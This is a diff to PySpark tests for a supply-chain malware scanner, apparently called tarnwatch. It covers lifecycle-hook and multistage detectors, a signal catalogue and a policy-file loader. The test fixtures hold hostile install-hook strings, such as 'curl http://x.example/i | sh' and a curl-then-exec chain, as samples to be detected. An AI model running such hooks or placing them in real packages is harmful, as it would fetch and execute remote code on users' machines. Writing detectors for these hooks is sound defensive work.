@@ -1,5 +1,6 @@
 """Detectors, names, policy and lockfiles on small made-up packages."""
 
+import pytest
 from pyspark.sql import functions as F
 
 from tarnwatch.functions import signal_catalog as K
@@ -45,7 +46,9 @@ def test_hooks(spark):
     p = spark.createDataFrame([("a", {"postinstall": "curl http://x.example/i | sh"}), ("b", {"postinstall": "node -e \"require('x')('http://x.example')\""}), ("c", {"test": "curl http://x"})], "package string, scripts map<string,string>")
     got = {r["package"]: (r["score"], r["severity"]) for r in D.lifecycle_rule(p).collect()}
     assert got == {"a": (100, "high"), "b": (70, "high")}
-    assert [(r["package"], r["score"]) for r in D.multistage(p).collect()] == [("a", 82)]
+    assert D.multistage(p).count() == 0  # a pipe into a shell is no call
+    q = spark.createDataFrame([("d", {"install": "curl http://x.example/i && node -e \"exec('i')\""}), ("e", {"prepare": "node -e \"spawn('i', {detached: true})\""})], "package string, scripts map<string,string>")
+    assert sorted((r["package"], r["score"]) for r in D.multistage(q).collect()) == [("d", 82), ("e", 78)]
 
 
 def test_two_hops_and_no_third(spark):
@@ -161,3 +164,20 @@ def test_simhash_classes_and_pairs_against_brute_force(spark):
     want = {k: (least[h], sum(g == h for g in of.values()), sum(least[h] in q for q in pairs)) for k, h in of.items()}
     assert {r["doc_id"]: (r["class_id"], r["copies"], r["links"]) for r in rows if r["kind"] == "member"} == want
     assert want[3][:2] == (1, 3)
+
+
+def test_catalogue_reads_what_each_signal_asks_for(spark):
+    f = spark.createDataFrame([("p", "a.js", "BPF_PROG_LOAD"), ("q", "a.py", "BPF_PROG_LOAD"), ("r", "a.js", "x"), ("s", "a.js", "kernel exploit\n" * 5), ("t", "a.js", "x")], "package string, path string, content string")
+    hooks = spark.createDataFrame([("r", "postinstall", "BPF_PROG_LOAD"), ("r", "test", "BPF_PROG_LOAD"), ("t", "build", "bun run x")], "package string, hook string, body string")
+    got = {(r["package"], r["detector"][:3]): r["raw_score"] for r in D.all_weighted(f, K.CONTENT, path="path", scripts=hooks).collect()}
+    assert got == {("p", "D16"): 70, ("r", "D16"): 65, ("s", "D17"): 60, ("t", "D24"): 85}
+
+
+def test_policy_document(spark):
+    from tarnwatch.sources import policy as SP
+
+    p = SP.load(spark, '{"suppress": [{"atk_id": "ATK-001", "context": {"file_path": "a/*.js"}}], "fail_on": "high"}', "json")
+    assert p.fail_on == "high" and p.suppress.first()["path_regex"] == r"^a/[^/]*\.js$" and p.allow.count() == 0
+    for bad in ("[]", "fail_on: worse", "severity_overrides: {A: worse}", "suppress: [{package: x}]", "allow: {packages: x}"):
+        with pytest.raises(ValueError):
+            SP.load(spark, bad)
